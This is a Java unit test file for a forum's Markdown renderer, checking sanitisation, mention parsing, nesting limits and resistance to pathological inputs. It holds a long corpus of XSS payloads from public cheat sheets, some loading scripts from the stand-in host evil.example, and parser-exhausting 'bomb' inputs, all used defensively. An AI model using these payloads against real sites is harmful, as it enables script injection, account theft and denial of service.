package org.clearroom.forums.control;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Deque;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.clearroom.platform.FieldError;
import org.clearroom.platform.control.InvalidInput;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class MarkdownTest {

    /** The longest body the caller lets through; bombs are built up to this size. */
    static final int MAX_BODY = 50_000;

    static final String ALERT_HTML_BASE64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==";

    /*
     * Families from the OWASP XSS filter evasion cheat sheet and PortSwigger's XSS cheat sheet,
     * plus Markdown-specific vectors (links, reference links, autolinks, images).
     */
    static final List<String> XSS_PAYLOADS = List.of(
            // script elements
            "<script>alert(1)</script>",
            "<SCRIPT>alert(1)</SCRIPT>",
            "<ScRiPt>alert(1)</sCrIpT>",
            "<script src=https://evil.example/x.js></script>",
            "<script/xss src=\"https://evil.example/x.js\"></script>",
            "<<script>alert(1);//<</script>",
            "<script>alert(1)",
            "<sc<script>ript>alert(1)</sc</script>ript>",
            "\"><script>alert(1)</script>",
            "'';!--\"<XSS>=&{()}",
            "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
            "<script\u0000>alert(1)</script>",
            "<template><script>alert(1)</script></template>",
            "<xss class=x onbeforescriptexecute=alert(1)><script>1</script>",
            // event handlers
            "<img src=x onerror=alert(1)>",
            "<IMG SRC=x ONERROR=alert(1)>",
            "<img src=\"x\" onerror=\"alert(1)\"//",
            "<img/src=\"x\"/onerror=alert(1)>",
            "<img src=x:alert(alt) onerror=eval(src) alt=0>",
            "<img src=x\u0000 onerror=alert(1)>",
            "<img src=\"https://example.org/x.png\" onload=\"alert(1)\">",
            "<svg onload=alert(1)>",
            "<svg/onload=alert(1)//",
            "<svg><script>alert(1)</script></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
            "<body onload=alert(1)>",
            "<video><source onerror=\"alert(1)\"></video>",
            "<audio src=x onerror=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<details><summary onclick=alert(1)>x</summary></details>",
            "<div onmouseover=\"alert(1)\">hover</div>",
            "<marquee onstart=alert(1)>",
            "<input autofocus onfocus=alert(1)>",
            "<x onclick=alert(1)>click</x>",
            "<kbd onclick=alert(1)>Ctrl</kbd>",
            "<code class=\"language-java\" onclick=alert(1)>x</code>",
            "<a href=\"https://example.org\" onclick=\"alert(1)\">x</a>",
            "<ol start=\"1\" onmouseover=alert(1)><li>x</li></ol>",
            "<isindex type=image src=1 onerror=alert(1)>",
            // frames, plugins, documents
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
            "<object data=\"javascript:alert(1)\"></object>",
            "<object data=\"data:text/html;base64," + ALERT_HTML_BASE64 + "\"></object>",
            "<embed src=\"data:text/html;base64," + ALERT_HTML_BASE64 + "\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            "<base href=\"https://evil.example/\">",
            "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
            "<form action=\"javascript:alert(1)\"><input type=\"submit\"></form>",
            "<button formaction=\"javascript:alert(1)\">x</button>",
            "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
            // HTML links with obfuscated schemes
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
            "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
            "<a href=\"&#0000106avascript:alert(1)\">x</a>",
            "<a href=\"javas&#99;ript:alert(1)\">x</a>",
            "<a href=\"java&Tab;script:alert(1)\">x</a>",
            "<a href=\"javascript&colon;alert(1)\">x</a>",
            "<a href=\"java\tscript:alert(1)\">x</a>",
            "<a href=\"java\nscript:alert(1)\">x</a>",
            "<a href=\" &#14; javascript:alert(1)\">x</a>",
            "<a href=\"\u0001javascript:alert(1)\">x</a>",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<a href=\"data:text/html;base64," + ALERT_HTML_BASE64 + "\">x</a>",
            "<a href=\"data&colon;text/html,x\">x</a>",
            "<img src=javascript:alert(1)>",
            "<img src=\"jav&#x09;ascript:alert(1)\">",
            "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
            "<img src=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
                    + "&#0000116&#0000058alert(1)>",
            "<img src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>",
            // Markdown links, references, autolinks and images
            "[x](javascript:alert(1))",
            "[x](JAVASCRIPT:alert(1))",
            "[x](javascript:alert%281%29)",
            "[x](&#106;avascript:alert(1))",
            "[x](javascript&#58;alert(1))",
            "[x](java&#09;script:alert(1))",
            "[x](<javascript:alert(1)>)",
            "[x](vbscript:msgbox(1))",
            "[x](data:text/html;base64," + ALERT_HTML_BASE64 + ")",
            "[x][ref]\n\n[ref]: javascript:alert(1)",
            "[ref]\n\n[ref]: &#x6A;avascript:alert(1)",
            "<javascript:alert(1)>",
            "<JavaScript:alert(1)>",
            "<vbscript:msgbox(1)>",
            "<data:text/html;base64," + ALERT_HTML_BASE64 + ">",
            "![x](javascript:alert(1))",
            "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
            "![x\"onerror=\"alert(1)](https://example.org/x.png)",
            "[x](https://example.org \"t\\\"onmouseover=\\\"alert(1)\")",
            "[<img src=x onerror=alert(1)>](https://example.org)",
            // styles
            "<p style=\"background:url(javascript:alert(1))\">x</p>",
            "<div style=\"width: expression(alert(1))\">x</div>",
            "<style>@import 'https://evil.example/x.css';</style>",
            "<style>body{background:url(\"javascript:alert(1)\")}</style>",
            // parser differentials and mutation XSS
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<textarea><script>alert(1)</script></textarea>",
            "<title><img src=x onerror=alert(1)></title>",
            "```\n</code></pre><script>alert(1)</script>\n```",
            "`x` <script>alert(1)</script>",
            "> <script>alert(1)</script>",
            "- <img src=x onerror=alert(1)>",
            "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
            "<details open ontoggle=alert(1)>\n\n*x*\n\n</details>");

    static final Pattern URL_ATTRIBUTE = Pattern.compile(
            "(?<![\\w:-])(href|src|action|formaction|xlink:href|data|background|poster)\\s*=\\s*(\"[^\"]*\"|'[^']*'|[^\\s>]+)",
            Pattern.CASE_INSENSITIVE);

    static final Pattern EVENT_HANDLER = Pattern.compile("[\\s/\"']on[a-z]+\\s*=", Pattern.CASE_INSENSITIVE);

    static final Pattern ENTITY =
            Pattern.compile("&(#x[0-9a-f]{1,6};?|#[0-9]{1,7};?|[a-z]+;)", Pattern.CASE_INSENSITIVE);

    static final Map<String, String> NAMED_ENTITIES = Map.of(
            "colon;",
            ":",
            "tab;",
            "\t",
            "newline;",
            "\n",
            "amp;",
            "&",
            "quot;",
            "\"",
            "apos;",
            "'",
            "lpar;",
            "(",
            "rpar;",
            ")",
            "sol;",
            "/",
            "period;",
            ".");

    static final Set<String> VOID_ELEMENTS = Set.of("br", "hr", "img");

    static final Pattern TAG = Pattern.compile("<(/?)([a-zA-Z][a-zA-Z0-9]*)[^>]*?(/?)>");

    final Markdown markdown = new Markdown();

    static List<String> xssPayloads() {
        return XSS_PAYLOADS;
    }

    @Test
    void corpusCoversEnoughDistinctPayloads() {
        assertThat(Set.copyOf(XSS_PAYLOADS)).hasSize(XSS_PAYLOADS.size());
        assertThat(XSS_PAYLOADS).hasSizeGreaterThanOrEqualTo(50);
    }

    @ParameterizedTest
    @MethodSource("xssPayloads")
    void noPayloadSurvivesAsActiveContent(String payload) {
        String html = markdown.render(payload).html();

        assertThat(html.toLowerCase(Locale.ROOT))
                .as("rendered %s", payload)
                .doesNotContain(
                        "<script", "<style", "<iframe", "<object", "<embed", "<svg", "<math", "<form", "<meta", "<base",
                        "<link", "style=", "srcdoc")
                .doesNotContainPattern(EVENT_HANDLER);
        assertThat(urlAttributeValues(html))
                .as("URLs rendered from %s", payload)
                .noneMatch(
                        url -> url.startsWith("javascript:") || url.startsWith("vbscript:") || url.startsWith("data:"));
    }

    @Test
    void rendersCommonMarkBasics() {
        String html = markdown.render(
                        "# Title\n\nSome *em* and **strong** text.\n\n- one\n- two\n\n1. first\n\n> quoted\n\n---")
                .html();

        assertThat(html)
                .contains("<h1>Title</h1>")
                .contains("<em>em</em>")
                .contains("<strong>strong</strong>")
                .contains("<ul>", "<li>one</li>", "<li>two</li>")
                .contains("<ol>", "<li>first</li>")
                .contains("<blockquote>", "quoted")
                .contains("<hr />");
    }

    @Test
    void keepsTheStartOfAnOrderedList() {
        assertThat(markdown.render("3. third\n4. fourth").html()).contains("<ol start=\"3\">");
    }

    @Test
    void rendersGfmTablesWithAlignment() {
        String html =
                markdown.render("| left | right |\n|:-----|------:|\n| 1 | 2 |").html();

        assertThat(html)
                .contains("<table>", "<thead>", "<tbody>")
                .contains("<th align=\"left\">left</th>")
                .contains("<td align=\"right\">2</td>");
    }

    @Test
    void autolinksBareUrlsAsNofollowNoopener() {
        String html = markdown.render("see https://example.org for details").html();

        assertThat(html).contains("<a href=\"https://example.org\"");
        assertThat(relOf(html)).contains("nofollow", "noopener");
    }

    @Test
    void keepsTheHrefOfAnInlineLink() {
        String html = markdown.render("[x](https://example.org/a?b=c#d)").html();

        assertThat(html).contains("href=\"https://example.org/a?b&#61;c#d\"");
        assertThat(relOf(html)).contains("nofollow", "noopener");
    }

    @Test
    void keepsRelativeAndFragmentLinks() {
        assertThat(markdown.render("[x](/threads/42) [y](#reply-7)").html())
                .contains("href=\"/threads/42\"")
                .contains("href=\"#reply-7\"");
    }

    @Test
    void keepsTheLanguageClassOnFencedCode() {
        String html = markdown.render("```java\nvar x = 1 < 2;\n```").html();

        assertThat(html).contains("<pre><code class=\"language-java\">var x &#61; 1 &lt; 2;");
    }

    @Test
    void dropsClassesThatAreNotACodeLanguage() {
        assertThat(markdown.render("<code class=\"evil\">x</code> <p class=\"language-java\">y</p>")
                        .html())
                .doesNotContain("class=");
    }

    @Test
    void keepsHarmlessInlineHtml() {
        String html = markdown.render("Press <kbd>Ctrl</kbd>, H<sub>2</sub>O, x<sup>2</sup>, <del>old</del>")
                .html();

        assertThat(html).contains("<kbd>Ctrl</kbd>", "<sub>2</sub>", "<sup>2</sup>", "<del>old</del>");
    }

    @Test
    void keepsDetailsAndSummary() {
        String html = markdown.render("<details><summary>Logs</summary>\n\nall quiet\n\n</details>")
                .html();

        assertThat(html).contains("<details><summary>Logs</summary>", "all quiet", "</details>");
    }

    @Test
    void stripsTagsOutsideTheAllowListButKeepsTheirText() {
        assertThat(markdown.render("<b>bold</b> <span>span</span> <div>div</div>")
                        .html())
                .doesNotContain("<b>", "<span", "<div")
                .contains("bold", "span", "div");
    }

    @Test
    void imagesBecomeLinksSoReadingAPostTellsNoOtherHost() {
        assertThat(markdown.render("![the *logo*](https://example.org/logo.png \"Logo\")")
                        .html())
                .contains(
                        "<a href=\"https://example.org/logo.png\" title=\"Logo\" rel=\"nofollow noopener\">the <em>logo</em></a>")
                .doesNotContain("<img");
        assertThat(markdown.render("<img src=\"https://example.org/x.png\" alt=\"raw\">")
                        .html())
                .doesNotContain("<img");
        assertThat(markdown.render("![c](ftp://example.org/c.png) ![](https://example.org/d.png)")
                        .html())
                .doesNotContain("<img")
                .doesNotContain("ftp:")
                .contains(">image</a>");
    }

    @Test
    void collectsMentionsInFirstSeenOrderLowerCased() {
        var mentions = markdown.render("Hi @Carla and @bob_s, then @carla again; ask @carla.carrier.")
                .mentions();

        assertThat(mentions).containsExactly("carla", "bob_s", "carla.carrier");
    }

    @Test
    void aTrailingPeriodEndsTheSentenceNotTheName() {
        assertThat(markdown.render("Thanks @dora-k.").mentions()).containsExactly("dora-k");
    }

    @Test
    void anEmailAddressIsNotAMention() {
        assertThat(markdown.render("write to carla@example.com or <dora@example.com>")
                        .mentions())
                .isEmpty();
    }

    @Test
    void codeIsNotAMention() {
        assertThat(markdown.render("run `notify @carla` now\n\n```\n@dora\n```\n\n    @erik")
                        .mentions())
                .isEmpty();
    }

    @Test
    void urlsAreNotMentions() {
        assertThat(markdown.render("[profile](https://example.org/@carla) and https://example.org/@dora")
                        .mentions())
                .isEmpty();
    }

    @Test
    void mentionsInLinkTextAndEmphasisCount() {
        assertThat(markdown.render("*@carla* and [@dora](https://example.org)").mentions())
                .containsExactly("carla", "dora");
    }

    @Test
    void nameRunsThatAreTooLongOrTooShortAreNotMentions() {
        assertThat(markdown.render("@a, @" + "x".repeat(65) + " and @ok").mentions())
                .containsExactly("ok");
    }

    @Test
    void mentionsAreCappedAtFifty() {
        String body = IntStream.range(0, 80).mapToObj(i -> "@user" + i).collect(Collectors.joining(" "));

        var mentions = markdown.render(body).mentions();

        assertThat(mentions).hasSize(50).startsWith("user0", "user1").endsWith("user49");
    }

    @Test
    void mentionsCannotBeChanged() {
        var mentions = markdown.render("@carla").mentions();

        assertThatThrownBy(() -> mentions.add("dora")).isInstanceOf(UnsupportedOperationException.class);
    }

    @Test
    void nestingDeeperThan32LevelsIsRejectedAsInvalidBody() {
        assertThatThrownBy(() -> markdown.render(">".repeat(40) + " too deep"))
                .isInstanceOfSatisfying(InvalidInput.class, e -> assertThat(e.errors())
                        .extracting(FieldError::field)
                        .containsExactly("body"));
    }

    @Test
    void deeplyNestedEmphasisIsRejected() {
        // 80 asterisks a side make 40 nested <strong>
        assertThatThrownBy(() -> markdown.render("*".repeat(80) + "a" + "*".repeat(80)))
                .isInstanceOf(InvalidInput.class)
                .hasMessageContaining("nests deeper than 32 levels");
    }

    @Test
    void deeplyNestedListsAreRejected() {
        assertThatThrownBy(() -> markdown.render("- ".repeat(40) + "x")).isInstanceOf(InvalidInput.class);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("nestings")
    void thirtyTwoLevelsAsAnAuthorCountsThemPassAndThirtyThreeDoNot(String kind, String open, String close) {
        var fine = markdown.render(open.repeat(32) + "deep but fine" + close.repeat(32))
                .html();
        assertThat(fine).contains("deep but fine");
        assertThatThrownBy(() -> markdown.render(open.repeat(33) + "too deep" + close.repeat(33)))
                .isInstanceOf(InvalidInput.class)
                .hasMessageContaining("nests deeper than 32 levels");
    }

    static Stream<Arguments> nestings() {
        return Stream.of(
                Arguments.of("quotes", ">", ""),
                Arguments.of("lists", "- ", ""),
                Arguments.of("numbered lists", "1. ", ""),
                Arguments.of("emphasis", "**", "**"));
    }

    @Test
    void quotesAndListsOneInTheOtherCountOneLevelEach() {
        assertThat(markdown.render("> - ".repeat(16) + "deep but fine").html()).contains("deep but fine");
        assertThatThrownBy(() -> markdown.render("> - ".repeat(16) + "> too deep"))
                .isInstanceOf(InvalidInput.class)
                .hasMessageContaining("nests deeper than 32 levels");
    }

    @Test
    void thirtyNestedQuotesAreAccepted() {
        String html = markdown.render(">".repeat(30) + " deep but fine").html();

        assertThat(html).contains("deep but fine");
        assertThat(countOf(html, "<blockquote>")).isEqualTo(30);
    }

    static Stream<Arguments> bombs() {
        return Stream.of(
                Arguments.of("50,000 >", ">".repeat(MAX_BODY)),
                Arguments.of("50,000 > with spaces", "> ".repeat(MAX_BODY / 2)),
                Arguments.of("50,000 *", "*".repeat(MAX_BODY)),
                Arguments.of("alternating emphasis", fill("*a **a ")),
                Arguments.of("10,000 [", "[".repeat(10_000)),
                Arguments.of("[a]( repeated", fill("[a](")),
                Arguments.of("one 50,000-character line", fill("lorem ipsum ")),
                Arguments.of("5,000 nested list items on one line", "- ".repeat(5_000) + "x"),
                Arguments.of("nested list items indented", indentedList()),
                Arguments.of("10,000 nested <b>", "<b>".repeat(10_000) + "x"),
                Arguments.of("10,000 nested <strong>", "<strong>".repeat(10_000) + "x"),
                Arguments.of("10,000 nested <details>", "<details>".repeat(10_000) + "x"),
                Arguments.of("50,000 backticks", "`".repeat(MAX_BODY)),
                Arguments.of("backtick runs of growing length", growingBacktickRuns()),
                Arguments.of("50,000 <", "<".repeat(MAX_BODY)),
                Arguments.of("alternating _*", fill("_*")),
                Arguments.of("10,000 ![", "![".repeat(10_000)),
                Arguments.of("unclosed link titles", fill("[a](b \"")),
                Arguments.of("50,000 newlines in a quote", "> x\n".repeat(MAX_BODY / 4)),
                Arguments.of("table of 5,000 columns", tableOfManyColumns()),
                Arguments.of("2 KB table of 300 columns and 300 rows", table(300, 300)),
                Arguments.of("2.5 KB table of 500 columns and 500 rows", table(500, 500)),
                Arguments.of("128 columns, then 16,000 short rows", table(128, 16_000)),
                Arguments.of("many tables of 39 columns and 51 rows", fill(table(39, 51))),
                Arguments.of("many tables of 128 columns and 16 rows", fill(table(128, 16))),
                Arguments.of("many reference definitions", fill("[a]: b\n")),
                Arguments.of("50,000 &", fill("&#")),
                Arguments.of("many @ mentions", fill("@aa ")));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("bombs")
    void pathologicalInputFinishesRenderedOrRejected(String name, String body) {
        // a bound against hangs and stack overflows, not a performance measurement
        Markdown.Rendered rendered = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> renderOrNull(body));

        if (rendered != null) {
            assertBalanced(rendered.html());
            assertThat(rendered.mentions()).hasSizeLessThanOrEqualTo(50);
            assertThat(rendered.html().length())
                    .as("rendered size is bounded linearly in the input")
                    .isLessThanOrEqualTo(Markdown.MAX_HTML);
        }
    }

    @Test
    void aTableWiderThan128ColumnsIsRefusedNamingTheBody() {
        assertThatThrownBy(() -> markdown.render(table(129, 1)))
                .isInstanceOfSatisfying(InvalidInput.class, refused -> assertThat(refused.errors())
                        .containsExactly(new FieldError("body", "has a table of more than 128 columns")));
        assertThat(markdown.render(table(128, 2)).html()).contains("<table>");
    }

    @Test
    void aTableOfMoreThan2048CellsIsRefused() {
        assertThatThrownBy(() -> markdown.render(table(100, 21)))
                .isInstanceOfSatisfying(InvalidInput.class, refused -> assertThat(refused.errors())
                        .containsExactly(new FieldError("body", "has a table of more than 2048 cells; split it")));
        assertThat(countOf(markdown.render(table(100, 19)).html(), "<td")).isEqualTo(1_900);
    }

    @Test
    void whatRendersPastTenTimesTheLongestBodyIsRefused() {
        // 39 columns padded from rows of two characters: about 17 characters of HTML for each of input
        var body = fill(table(39, 51));

        assertThatThrownBy(() -> markdown.render(body))
                .isInstanceOfSatisfying(
                        InvalidInput.class,
                        refused -> assertThat(refused.errors()).singleElement().satisfies(error -> {
                            assertThat(error.field()).isEqualTo("body");
                            assertThat(error.message()).startsWith("renders to more than 500000 characters");
                        }));
    }

    @Test
    void deeplyNestedInlineHtmlIsCutOffButStaysWellFormed() {
        String body =
                "before <strong>" + "<strong>".repeat(10_000) + "deep" + "</strong>".repeat(10_000) + " after</strong>";

        String html = markdown.render(body).html();

        // the sanitiser stops at 256 open elements and drops what lies deeper, text included
        assertBalanced(html);
        assertThat(countOf(html, "<strong>")).isPositive().isLessThanOrEqualTo(256);
        assertThat(html).contains("before", "after");
    }

    /** Renders, or returns null where the body was rejected for its nesting. */
    Markdown.Rendered renderOrNull(String body) {
        try {
            return markdown.render(body);
        } catch (InvalidInput rejected) {
            assertThat(rejected.errors()).extracting(FieldError::field).containsExactly("body");
            return null;
        }
    }

    static String fill(String unit) {
        return unit.repeat(MAX_BODY / unit.length());
    }

    static String indentedList() {
        var body = new StringBuilder();
        for (int level = 0; body.length() < MAX_BODY - 2 * level - 10; level++) {
            body.append("  ".repeat(level)).append("- item\n");
        }
        return body.toString();
    }

    static String growingBacktickRuns() {
        var body = new StringBuilder();
        for (int run = 1; body.length() < MAX_BODY - run - 2; run++) {
            body.append("`".repeat(run)).append("a");
        }
        return body.toString();
    }

    /**
     * A header of {@code columns} cells and rows of one short cell each, which the table parser pads to
     * the header's width: the input grows with {@code columns + rows}, the output with their product.
     */
    static String table(int columns, int rows) {
        return "|a".repeat(columns) + "|\n" + "|-".repeat(columns) + "|\n" + "a|\n".repeat(rows) + "\n";
    }

    static String tableOfManyColumns() {
        return "|a".repeat(5_000) + "|\n" + "|-".repeat(5_000) + "|\n" + "|1".repeat(5_000) + "|\n";
    }

    static List<String> urlAttributeValues(String html) {
        List<String> urls = new ArrayList<>();
        Matcher matcher = URL_ATTRIBUTE.matcher(html);
        while (matcher.find()) {
            urls.add(canonicalUrl(unquote(matcher.group(2))));
        }
        return urls;
    }

    static String unquote(String value) {
        boolean quoted = value.length() >= 2 && (value.startsWith("\"") || value.startsWith("'"));
        return quoted ? value.substring(1, value.length() - 1) : value;
    }

    /** What a browser would see as the scheme: entities decoded once, blanks and controls dropped. */
    static String canonicalUrl(String raw) {
        var canonical = new StringBuilder();
        decodeEntities(raw)
                .codePoints()
                .filter(c -> c > 0x20 && !Character.isISOControl(c) && !Character.isWhitespace(c))
                .forEach(canonical::appendCodePoint);
        return canonical.toString().toLowerCase(Locale.ROOT);
    }

    /** One pass, like the browser: "&amp;#106;" stays the text "&#106;". */
    static String decodeEntities(String value) {
        Matcher matcher = ENTITY.matcher(value);
        var decoded = new StringBuilder();
        while (matcher.find()) {
            String entity = matcher.group(1);
            String replacement;
            if (entity.startsWith("#x") || entity.startsWith("#X")) {
                replacement =
                        Character.toString(Integer.parseInt(entity.substring(2).replace(";", ""), 16));
            } else if (entity.startsWith("#")) {
                replacement =
                        Character.toString(Integer.parseInt(entity.substring(1).replace(";", "")));
            } else {
                replacement = NAMED_ENTITIES.getOrDefault(entity.toLowerCase(Locale.ROOT), matcher.group());
            }
            matcher.appendReplacement(decoded, Matcher.quoteReplacement(replacement));
        }
        matcher.appendTail(decoded);
        return decoded.toString();
    }

    static String relOf(String html) {
        Matcher matcher = Pattern.compile("rel=\"([^\"]*)\"").matcher(html);
        assertThat(matcher.find()).as("a rel attribute in %s", html).isTrue();
        return matcher.group(1);
    }

    static int countOf(String text, String part) {
        int count = 0;
        for (int at = text.indexOf(part); at >= 0; at = text.indexOf(part, at + part.length())) {
            count++;
        }
        return count;
    }

    /** Every element the output opens it also closes, in order: nothing left dangling for the page. */
    static void assertBalanced(String html) {
        Deque<String> open = new ArrayDeque<>();
        Matcher matcher = TAG.matcher(html);
        while (matcher.find()) {
            String name = matcher.group(2).toLowerCase(Locale.ROOT);
            if (VOID_ELEMENTS.contains(name)) {
                continue;
            }
            if (matcher.group(1).isEmpty()) {
                open.push(name);
            } else {
                assertThat(open)
                        .as("closing </%s> in a well-formed document", name)
                        .isNotEmpty();
                assertThat(open.pop()).as("element closed by </%s>", name).isEqualTo(name);
            }
        }
        assertThat(open).as("elements left open").isEmpty();
    }
}
